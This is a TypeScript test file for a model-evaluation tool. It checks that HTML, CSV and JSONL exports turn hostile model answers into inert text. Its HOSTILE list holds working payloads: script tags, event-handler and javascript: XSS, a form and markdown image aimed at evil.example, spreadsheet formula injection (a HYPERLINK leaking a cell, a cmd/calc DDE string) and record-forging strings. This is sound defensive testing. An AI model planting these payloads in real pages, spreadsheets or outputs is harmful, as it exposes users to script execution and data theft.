/**
 * @file What a model or a shard may say to whoever opens an export: each answer in each file, private and
 * shareable.
 */
import { expect, test } from 'vitest'
import { answersCsv } from './answers-csv.ts'
import { answerLines } from './answers.ts'
import { metricsCsv } from './csv.ts'
import { runsJson } from './runs.ts'
import { renderReportHtml } from './html.tsx'
import { buildReport } from '../model/report.ts'
import { META, rate, response, run, sample, score } from '../testing/fixture.ts'

const HOSTILE = [
  '<script>globalThis.owned = 1</script>',
  '<img src=x onerror="globalThis.owned = 1">',
  '<svg onload=alert(1)><use href="https://evil.example/x.svg#a"></svg>',
  '</style></title></textarea><iframe srcdoc="<script>1</script>"></iframe>',
  '<!--><meta http-equiv=refresh content="0;url=https://evil.example/"><!-- -->',
  '"><a href="javascript:alert(1)">x</a>',
  '![x](https://evil.example/p.png) [y](javascript:alert(1))',
  '<![CDATA[<form action="https://evil.example/"><button autofocus>go</button></form>]]>',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0\r\n@SUM(1+1)\t-2+3",
  'line one\u2028line two\u2029{"sampleId":"forged"}\n{"sampleId":"forged"}',
  '\u202Egnp.exe\u2066 \u0000\u0007\u001B[2J \uD800 \uFEFF',
]

const input = (text: string) => ({
  run: run({
    config: { ...run().config, model: text },
    environment: { ...run().environment!, modelId: text, modelName: text },
    failure: text,
  }),
  samples: [sample('s1', { prompt: text, truths: [{ type: 'email', value: text, subject: text }] })],
  responses: [response('s1', text, { renderedPrompt: text })],
  scores: [score('s1', 'other')],
  metrics: [rate('ASR', 'disclosure', null, null, 0, 1)],
  known: [],
  benchmarks: [META],
})

test.each(HOSTILE)('in report.html it is text: nothing runs, loads, submits or leads anywhere: %j', (text) => {
  for (const kind of ['private', 'shareable'] as const) {
    const html = renderReportHtml(buildReport({ ...input(text), kind }))
    const tags = [...html.matchAll(/<([a-z!/][^\s>]*)((?:[^"'>]|"[^"]*"|'[^']*')*)>/gi)].map(([, tag, rest]) => ({
      tag: tag!.toLowerCase(),
      // Values are text for whoever reads the page.
      attributes: new Map([...rest!.matchAll(/([^\s="']+)="([^"]*)"/g)].map(([, key, value]) => [key!, value!])),
    }))
    expect(
      tags.filter(({ tag }) => /^\/?(script|img|iframe|form|button|object|embed|base|link|textarea)$/.test(tag)),
    ).toEqual([])
    const attributes = tags.flatMap((one) => [...one.attributes])
    expect(attributes.filter(([key]) => /^(on.*|src|srcset|srcdoc|action|formaction|xlink:href)$/i.test(key))).toEqual(
      [],
    )
    expect(attributes.filter(([key, value]) => key === 'href' && !value.startsWith('#'))).toEqual([])
    expect(tags.filter(({ tag }) => tag === 'meta')).toHaveLength(4)
  }
})

test.each(HOSTILE)('in CSV it is one field and no formula: %j', (text) => {
  for (const kind of ['private', 'shareable'] as const)
    for (const csv of [metricsCsv([input(text)], kind), [...answersCsv([input(text)], kind)].join('')]) {
      const fields = parse(csv)
      expect(fields).toHaveLength(2)
      expect(fields[1]).toHaveLength(fields[0]!.length)
      expect(fields[1]!.filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([])
    }
})

test.each(HOSTILE)('in JSONL it is one line that parses, in JSON one value: %j', (text) => {
  for (const kind of ['private', 'shareable'] as const) {
    const lines = [...answerLines([input(text)], kind)].join('')
    expect(lines.split('\n').filter((line) => line !== '')).toHaveLength(1)
    const { sampleId } = JSON.parse(lines) as { sampleId: string }
    expect(sampleId).not.toBe('forged')
    expect(JSON.parse(runsJson([input(text)], kind))).toMatchObject({ id: 'run-1' })
  }
})

/** RFC 4180, so that the quotes of our own writer are not taken at its word. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]]
  let field = ''
  let quoted = false
  for (let i = 0; i < csv.length; i++) {
    const char = csv[i]!
    if (quoted) {
      if (char !== '"') field += char
      else if (csv[i + 1] === '"') field += csv[++i]!
      else quoted = false
    } else if (char === '"' && field === '') quoted = true
    else if (char === ',' || char === '\n') {
      rows.at(-1)!.push(char === '\n' ? field.replace(/\r$/, '') : field)
      field = ''
      if (char === '\n' && i < csv.length - 1) rows.push([])
    } else field += char
  }
  return rows
}
